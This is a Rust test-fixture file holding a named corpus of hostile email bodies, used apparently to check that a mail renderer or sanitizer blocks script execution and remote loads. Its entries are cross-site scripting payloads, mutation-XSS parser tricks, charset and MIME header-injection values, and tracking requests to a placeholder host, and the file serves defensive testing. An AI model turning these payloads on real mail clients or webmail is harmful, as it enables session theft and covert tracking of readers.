//! Mails that try to run a script or to load something in the browser of their reader.
//!
//! `{js}` is a script without quotes and brackets that the test notices, and `{remote}` an address that counts requests.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;

use Hostile::{Charset, Html, Message};

/// The body of a hostile mail.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Hostile {
    /// HTML in UTF-8.
    Html(&'static str),
    /// HTML in a charset, as octets.
    Charset(&'static str, &'static str),
    /// A whole message.
    Message(&'static str),
}

impl Hostile {
    /// The whole message, with a script and the address of another machine in it.
    pub(crate) fn message(self, script: &str, remote: &str) -> String {
        let (charset, html) = match self {
            Message(message) => return filled(message, script, remote),
            Charset(charset, html) => (filled(charset, script, remote), html),
            Html(html) => ("utf-8".to_owned(), html),
        };
        let encoded = BASE64_STANDARD.encode(filled(html, script, remote));
        let lines: Vec<_> = encoded.as_bytes().chunks(76).map(|line| String::from_utf8_lossy(line)).collect();
        format!(
            "Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            lines.join("\r\n")
        )
    }
}

/// A text of the corpus with a script and the address of another machine in it.
pub(crate) fn filled(text: &str, script: &str, remote: &str) -> String {
    text.replace("{js}", script).replace("{remote}", remote)
}

/// Each mail with the name of its trick.
pub(crate) const CORPUS: &[(&str, Hostile)] = &[
    // Scripts.
    ("script", Html("<script>{js}</script>")),
    ("script in odd cases", Html("<ScRiPt\n\t>{js}</sCrIpT >")),
    ("script of another machine", Html("<script src={remote}/a.js></script>")),
    ("script with a slash", Html("<script/x>{js}</script>")),
    ("script that is not closed", Html("<script>{js}//")),
    ("script in a script", Html("<scr<script>ipt>{js}</scr</script>ipt>")),
    ("script after a bad comment", Html("<!--><script>{js}</script>-->")),
    ("script in a closed comment", Html("<!-- --!><script>{js}</script> -->")),
    ("script in a conditional comment", Html("<!--[if gte IE 4]><script>{js}</script><![endif]-->")),
    ("script in CDATA", Html("<![CDATA[<script>{js}</script>]]>")),
    ("script with NUL", Html("<scr\0ipt>{js}</scr\0ipt><img src=x on\0error={js}>")),
    ("two brackets", Html("<<script>{js}//<</script>")),
    ("module", Html("<script type=module>{js}</script>")),
    // Event handlers.
    ("onerror", Html("<img src=x onerror={js}>")),
    ("onerror without blanks", Html("<img/src=\"x\"/onerror=\"{js}\">")),
    ("onerror after a quote", Html("<img src=\"x\"onerror=\"{js}\">")),
    ("onerror with a grave accent", Html("<img src=`x`onerror={js}>")),
    ("onerror in upper case", Html("<IMG SRC=X ONERROR={js}>")),
    ("onload", Html("<body onload={js}>x</body>")),
    ("onload of an image", Html("<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload={js}>")),
    ("onfocus", Html("<input autofocus onfocus={js}>")),
    ("onfocus by tabindex", Html("<p id=x tabindex=1 autofocus onfocus={js}>x</p>")),
    ("ontoggle", Html("<details open ontoggle={js}>x</details>")),
    ("onstart", Html("<marquee onstart={js}>x</marquee>")),
    ("onpageshow", Html("<body onpageshow={js}>")),
    ("onanimationstart", Html("<style>@keyframes x{}</style><p style=\"animation:x 1s\" onanimationstart={js}>x")),
    ("onerror of a video", Html("<video><source onerror={js}></video>")),
    ("onerror of audio", Html("<audio src=x onerror={js}></audio>")),
    ("handler with a form feed", Html("<img\u{c}src=x\u{c}onerror={js}>")),
    ("handler that breaks out", Html("<p title=\"\"><img src=x onerror={js}>\">x</p>")),
    ("handler in a value", Html("<p title='\"><img src=x onerror={js}>'>x</p>")),
    // Addresses with a script.
    ("javascript link", Html("<a href=\"javascript:{js}\" autofocus>x</a>")),
    (
        "javascript with control characters",
        Html("<iframe src=\"\u{1}java\tscr\nipt:{js}\"></iframe><a href=\"\u{1}java\tscr\nipt:{js}\">x</a>"),
    ),
    (
        "javascript as references",
        Html("<iframe src=\"&#106;&#x61;vascript&colon;{js}\"></iframe><a href=\"&#106;avascript&colon;{js}\">x</a>"),
    ),
    ("data link", Html("<a href=\"data:text/html,<script>{js}</script>\">x</a>")),
    ("data image", Html("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload={js}/>\">")),
    ("javascript image", Html("<img src=\"javascript:{js}\" dynsrc=\"javascript:{js}\" lowsrc=\"javascript:{js}\">")),
    (
        "javascript background",
        Html("<table background=\"javascript:{js}\"><td background=\"{remote}/a.png\">x</table>"),
    ),
    // Other vocabularies.
    ("svg", Html("<svg onload={js}></svg>")),
    ("svg script", Html("<svg><script>{js}</script></svg>")),
    ("svg script by reference", Html("<svg><script href=\"data:,{js}\"></script></svg>")),
    ("svg animation", Html("<svg><animate onbegin={js} attributeName=x dur=1s></svg>")),
    ("svg set", Html("<svg><a><set attributeName=href to=javascript:{js} /><text>x</text></a></svg>")),
    ("svg foreignObject", Html("<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>")),
    (
        "svg use",
        Html(
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{js}'/></svg>#x\"/></svg>",
        ),
    ),
    ("svg image", Html("<svg><image href={remote}/a.png></image><feImage href={remote}/b.png></feImage></svg>")),
    (
        "mathml",
        Html(
            "<math><maction actiontype=statusline xlink:href=\"javascript:{js}\">x</maction><mtext><img src=x onerror={js}></mtext></math>",
        ),
    ),
    // Mutations: what one parser takes for text, another takes for markup.
    ("noscript", Html("<noscript><p title=\"</noscript><img src=x onerror={js}>\">")),
    ("style in svg", Html("<svg><style><a title=\"</style><img src=x onerror={js}>\">")),
    (
        "style in math",
        Html("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">"),
    ),
    ("forms in math", Html("<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>")),
    ("title", Html("<title><a title=\"</title><img src=x onerror={js}>\"></title>")),
    ("textarea", Html("<textarea><a title=\"</textarea><img src=x onerror={js}>\"></textarea>")),
    (
        "template",
        Html(
            "<template><img src=x onerror={js}></template><template><style></template><img src=x onerror={js}></style>",
        ),
    ),
    ("xmp", Html("<xmp><p title=\"</xmp><img src=x onerror={js}>\">")),
    ("noembed in svg", Html("<svg><noembed><a title=\"</noembed><img src=x onerror={js}>\">")),
    ("plaintext", Html("<svg><plaintext><a title=\"</plaintext><img src=x onerror={js}>\">")),
    ("select", Html("<select><style></select><img src=x onerror={js}></style>")),
    ("end of a style by an escape", Html("<style>a{content:\"\\3c/style>\\3cscript>{js}\\3c/script>\"}</style>")),
    ("end of a style in a string", Html("<style>a{content:\"</style><img src=x onerror={js}>\"}")),
    ("comment in an attribute", Html("<p title=\"--><img src=x onerror={js}>\"><!--</p>")),
    ("processing instruction", Html("<?xml version=\"1.0\"?><?x ><img src=x onerror={js}>?>")),
    ("frameset", Html("<frameset onload={js}><frame src=\"javascript:{js}\"></frameset>")),
    // Pages within the page, and pages instead of it.
    ("iframe srcdoc", Html("<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>")),
    ("iframe", Html("<iframe src={remote}/a.html></iframe>")),
    (
        "object",
        Html("<object data=\"data:text/html,<script>parent.{js}</script>\"></object><object data={remote}/a></object>"),
    ),
    (
        "embed",
        Html(
            "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{js}'/>\"><embed src={remote}/a>",
        ),
    ),
    ("meta refresh", Html("<meta http-equiv=refresh content=\"0;url={remote}/a.html\">")),
    (
        "meta refresh to a script",
        Html("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html,<script>{js}</script>\">"),
    ),
    ("meta policy", Html("<meta http-equiv=Content-Security-Policy content=\"script-src *\"><script>{js}</script>")),
    ("base", Html("<base href={remote}/><img src=a.png><a href=x>x</a><script src=a.js></script>")),
    (
        "form",
        Html(
            "<form action=\"javascript:{js}\"><input type=submit autofocus><button formaction={remote}/a>x</button></form>",
        ),
    ),
    ("isindex", Html("<isindex type=image src={remote}/a.png action=\"javascript:{js}\">")),
    ("image button", Html("<input type=image src={remote}/a.png onerror={js}>")),
    // Requests.
    ("image", Html("<img src={remote}/a.png><img src=//127.0.0.1/a.png><image src={remote}/b.png>")),
    ("srcset", Html("<img srcset=\"{remote}/a.png 1x\"><picture><source srcset={remote}/b.png><img></picture>")),
    (
        "link",
        Html(
            "<link rel=stylesheet href={remote}/a.css><link rel=icon href={remote}/a.ico><link rel=preload as=image href={remote}/a.png><link rel=dns-prefetch href={remote}>",
        ),
    ),
    (
        "media",
        Html(
            "<video poster={remote}/a.png src={remote}/a.mp4 autoplay></video><audio src={remote}/a.mp3 autoplay></audio>",
        ),
    ),
    (
        "CSS import",
        Html("<style>@import url({remote}/a.css);@import \"{remote}/b.css\";@\\69mport '{remote}/c.css';</style>"),
    ),
    (
        "CSS url",
        Html("<style>body{background:url({remote}/a.png)}p::before{content:url('{remote}/b.png')}</style><p>x</p>"),
    ),
    (
        "CSS url in an attribute",
        Html("<p style=\"background:url({remote}/a.png);list-style:url({remote}/b.png)\">x</p>"),
    ),
    (
        "CSS url by escapes",
        Html("<p style=\"background:\\75 \\72\\6c({remote}/a.png);background:u\\72l({remote}/b.png)\">x</p>"),
    ),
    (
        "CSS url behind comments",
        Html("<style>p{back/**/ground:url({remote}/a.png);/*\\*/background:url({remote}/b.png)}</style><p>x</p>"),
    ),
    (
        "CSS functions",
        Html(
            "<p style=\"background:image-set('{remote}/a.png' 1x);mask:-webkit-image-set('{remote}/b.png' 1x);cursor:url({remote}/c.cur),auto\">x</p>",
        ),
    ),
    ("CSS font", Html("<style>@font-face{font-family:x;src:url({remote}/a.woff)}p{font-family:x}</style><p>x</p>")),
    ("CSS variable", Html("<style>:root{--a:url({remote}/a.png)}p{background:var(--a)}</style><p>x</p>")),
    (
        "CSS expression",
        Html(
            "<p style=\"width:expression({js});behavior:url({remote}/a.htc);-moz-binding:url({remote}/a.xml#x)\">x</p>",
        ),
    ),
    (
        "CSS in SVG",
        Html("<svg><style>@import '{remote}/a.css';</style><rect style=\"fill:url({remote}/a.svg#x)\"/></svg>"),
    ),
    // Charsets.
    ("UTF-7", Charset("utf-7", "+ADw-script+AD4-{js}+ADw-/script+AD4-")),
    ("UTF-7 that is not declared", Html("<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-")),
    ("ISO-2022-JP", Charset("iso-2022-jp", "<p title=\"\u{1b}$B\">\u{1b}(B<img src=x onerror={js}>\">x")),
    ("an unknown charset", Charset("x-\"><script>{js}</script>", "<script>{js}</script>")),
    // Mails.
    (
        "text with markup",
        Message("Content-Type: text/plain\r\n\r\n<script>{js}</script><img src={remote}/a.png onerror={js}>"),
    ),
    (
        "header fields with markup",
        Message("From: \"<script>{js}</script>\" <a@b.test>\r\nSubject: </title><script>{js}</script>\r\n\r\nx"),
    ),
    ("subject in words", Message("Subject: =?utf-8?q?=3Cimg_src=3Dx_onerror=3D{js}=3E?=\r\n\r\nx")),
    (
        "nested alternatives",
        Message(
            "Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n\r\n<script>{js}</script>\r\n--a\r\n\
             Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
             <script>{js}</script><img src=cid:a onerror={js}>\r\n--b\r\nContent-Type: text/html\r\nContent-ID: <a>\r\n\r\n\
             <script>{js}</script>\r\n--b--\r\n--a--\r\n",
        ),
    ),
    (
        "HTML in two parts",
        Message(
            "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n<p title=\"\r\n--a\r\n\
             Content-Type: text/html\r\n\r\n\"><script>{js}</script>\r\n--a--\r\n",
        ),
    ),
    (
        "attachment of HTML",
        Message(
            "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx\r\n--a\r\nContent-Type: text/html\r\n\
             Content-Disposition: attachment; filename=\"<script>{js}</script>.html\"\r\n\r\n<script>{js}</script>\r\n--a--\r\n",
        ),
    ),
    (
        "attachment of SVG",
        Message(
            "Content-Type: multipart/related; boundary=a\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n<img src=cid:a>\r\n--a\r\n\
             Content-Type: image/svg+xml\r\nContent-ID: <a>\r\n\r\n\
             <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{js}\"><image href=\"{remote}/a.png\"/></svg>\r\n--a--\r\n",
        ),
    ),
    (
        "attachment with a false type",
        Message(
            "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: image/png\r\n\r\n<script>{js}</script>\r\n--a\r\n\
             Content-Type: text/html\"><script>{js}</script>\r\nContent-Disposition: attachment\r\n\r\n\
             <script>{js}</script>\r\n--a--\r\n",
        ),
    ),
    (
        "attachment with header fields in its name",
        Message(
            "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: application/xhtml+xml\r\nContent-Disposition: \
             inline; filename*=utf-8''a%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>{js}</script>\r\n\r\n\
             <html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{js}</script></html>\r\n--a--\r\n",
        ),
    ),
    (
        "message in the message",
        Message(
            "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: message/rfc822\r\n\r\n\
             Content-Type: text/html\r\n\r\n<script>{js}</script>\r\n--a--\r\n",
        ),
    ),
];
